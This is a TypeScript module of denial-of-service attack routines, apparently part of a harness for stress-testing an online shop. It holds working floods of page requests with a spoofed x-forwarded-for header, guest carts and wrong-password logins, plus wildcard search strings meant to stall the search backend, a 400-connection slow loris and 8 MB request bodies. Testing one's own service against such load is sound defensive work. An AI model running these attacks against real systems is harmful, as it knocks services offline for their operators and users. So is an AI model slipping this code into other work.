import { type Attack, postOperation, repeat, type Target } from './pace.ts'
import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'

const ADD =
  'mutation ($sku: String!) { addToCart(input: { lines: [{ sku: $sku, quantity: 1 }] }) { userErrors { code } } }'
const LOGIN = 'mutation ($input: LoginInput!) { login(input: $input) { userErrors { code } } }'

const pages = ['/', '/products', '/electrical-feedthroughs/power', '/search?terms=viewport', '/cart']

/** Pages requested as fast as possible, each with an uncached query. */
export const requestFlood: Attack = {
  name: 'request flood',
  run: ({ web, address }, signal) =>
    repeat({ perSecond: 200, parallel: 40, signal }, async (index) => {
      const page = pages[index % pages.length] ?? '/'
      const url = `${web}${page}${page.includes('?') ? '&' : '?'}utm_source=${index}`
      const answer = await fetch(url, { headers: { 'x-forwarded-for': address }, signal })
      await answer.arrayBuffer()
    }),
}

/** Each request starts a new cart. */
export const cartFlood: Attack = {
  name: 'guest cart flood',
  run: ({ web, address }, signal) =>
    repeat({ perSecond: 100, parallel: 20, signal }, () =>
      postOperation(web, address, { query: ADD, variables: { sku: '110001' } }, signal),
    ),
}

/** Each wrong password costs the backend a slow hash. */
export const passwordFlood: Attack = {
  name: 'wrong-password flood',
  run: ({ web, address }, signal) =>
    repeat({ perSecond: 50, parallel: 20, signal }, (index) => {
      const input = { email: `somebody-${index}@lab.example`, password: `wrong-password-${index}` }
      return postOperation(web, address, { query: LOGIN, variables: { input } }, signal)
    }),
}

const SUGGEST = 'query ($text: String!) { searchSuggestions(text: $text) { label } }'
const SEARCH = 'query ($text: String!) { search(terms: $text, first: 5) { totalCount } }'

/** One word with many punctuation marks: such a search text used to stall the shop. */
export const wildcardSearches: Attack = {
  name: 'a*a*a*… suggestions and searches',
  run: ({ gateway, address }, signal) =>
    repeat({ perSecond: 20, parallel: 8, signal }, (index) => {
      const text = 'a*b*c*'.repeat(40).slice(index % 3, 80 + (index % 120))
      const query = index % 4 === 0 ? SEARCH : SUGGEST
      return postOperation(gateway, address, { query, variables: { text } }, signal)
    }),
}

const CONNECTIONS = 400
const LARGE_BODY_BYTES = 8 * 1024 * 1024

/** Connections whose request never ends: they send one header line per second. */
export const slowLoris: Attack = {
  name: 'slow loris',
  run: async ({ web, gateway }, signal) => {
    const trickle = async (index: number): Promise<void> => {
      const { hostname, port } = new URL(index % 2 === 0 ? web : gateway)
      const socket = connect(Number(port), hostname)
      socket.on('error', () => undefined)
      socket.write(`POST /graphql HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\n`)
      for (let line = 0; !signal.aborted && !socket.destroyed; line += 1) {
        socket.write(`X-Line-${line}: slow\r\n`)
        await wait(1_000, undefined, { signal }).catch(() => undefined)
      }
      socket.destroy()
    }
    await Promise.all(Array.from({ length: CONNECTIONS }, (_, index) => trickle(index)))
  },
}

/** Bodies far larger than any operation needs. */
export const largeBodies: Attack = {
  name: 'large bodies',
  run: ({ web, gateway, address }: Target, signal) => {
    const body = JSON.stringify({ query: `{ __typename } #${'x'.repeat(LARGE_BODY_BYTES)}` })
    return repeat({ perSecond: 20, parallel: 8, signal }, async (index) => {
      const headers = { 'content-type': 'application/json', 'x-forwarded-for': address }
      const base = index % 2 === 0 ? web : gateway
      const answer = await fetch(`${base}/graphql`, { method: 'POST', headers, body, signal })
      await answer.arrayBuffer()
    })
  },
}
